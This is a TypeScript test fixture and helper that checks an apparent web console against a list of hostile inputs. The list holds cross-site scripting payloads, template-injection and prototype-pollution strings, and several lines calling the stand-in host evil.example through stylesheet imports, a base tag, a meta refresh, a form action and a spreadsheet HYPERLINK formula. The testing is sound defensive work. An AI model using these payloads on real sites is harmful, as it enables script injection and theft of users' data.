import { expect } from "vitest";
import { isTooWide, type Opened, type Visited } from "./page.ts";

const runs = "window.hit=1";

/** What others write: markup, scripts, addresses, templates, names of an object, invisible and endless characters. */
export const hostile: readonly string[] = [
  `<script>${runs}</script>`,
  `<img src=x onerror=${runs}>`,
  `<svg onload=${runs}>`,
  `<svg><script>${runs}</script></svg>`,
  `<iframe srcdoc="<script>parent.hit=1</script>">`,
  `<body onload=${runs}>`,
  `<details open ontoggle=${runs}>`,
  `<video><source onerror=${runs}></video>`,
  `<input autofocus onfocus=${runs}>`,
  `<a href="javascript:${runs}">press</a>`,
  `javascript:${runs}`,
  `data:text/html,<script>${runs}</script>`,
  `"><script>${runs}</script>`,
  `'><script>${runs}</script>`,
  `" onmouseover="${runs}`,
  `' onmouseover='${runs}`,
  `</title><script>${runs}</script>`,
  `</textarea><script>${runs}</script>`,
  `</style><script>${runs}</script>`,
  `<style>@import "http://evil.example/x.css";</style>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<base href=http://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example">`,
  `<form action=http://evil.example><input name=key></form>`,
  `<object data=http://evil.example/x>`,
  `<embed src=http://evil.example/x>`,
  `<math><mtext><script>${runs}</script></mtext></math>`,
  `<!--><script>${runs}</script>-->`,
  `<![CDATA[<script>${runs}</script>]]>`,
  `{{constructor.constructor('${runs}')()}}`,
  `\${${runs}}`,
  `#{${runs}}`,
  `<%= ${runs} %>`,
  `%3Cscript%3E${runs}%3C/script%3E`,
  `&lt;script&gt;${runs}&lt;/script&gt;`,
  `&#60;script&#62;${runs}&#60;/script&#62;`,
  `__proto__`,
  `constructor`,
  `hasOwnProperty`,
  `=HYPERLINK("http://evil.example","x")`,
  `\u202Egnp.tset`,
  `a\u200Bb\u200Cc\uFEFFd`,
  `${"W".repeat(200)}`,
  `${"\u0301".repeat(60)}a`,
];

const made = "#console :is(script, img, iframe, object, embed, link, meta, base, style, video, math)";

/** At 360 px: nothing runs, nothing of it becomes an element, nothing is asked elsewhere. */
export const expectHarmless = async ({ page, heard }: Opened, agent: Visited, path: string): Promise<void> => {
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto(new URL(path, agent.url).href);
  await page.locator("h1:visible").first().waitFor();
  await expect.poll(() => page.locator(".skeleton").count()).toBe(0);
  expect(await page.evaluate("window.hit")).toBeUndefined();
  expect(await page.locator(made).count()).toBe(0);
  expect(await page.locator('#console a[href^="javascript:"], #console a[href^="data:"]').count()).toBe(0);
  expect(await isTooWide(page)).toBe(false);
  expect(heard.filter((line) => !line.includes("status of 404") && !line.includes("status of 422"))).toEqual([]);
};
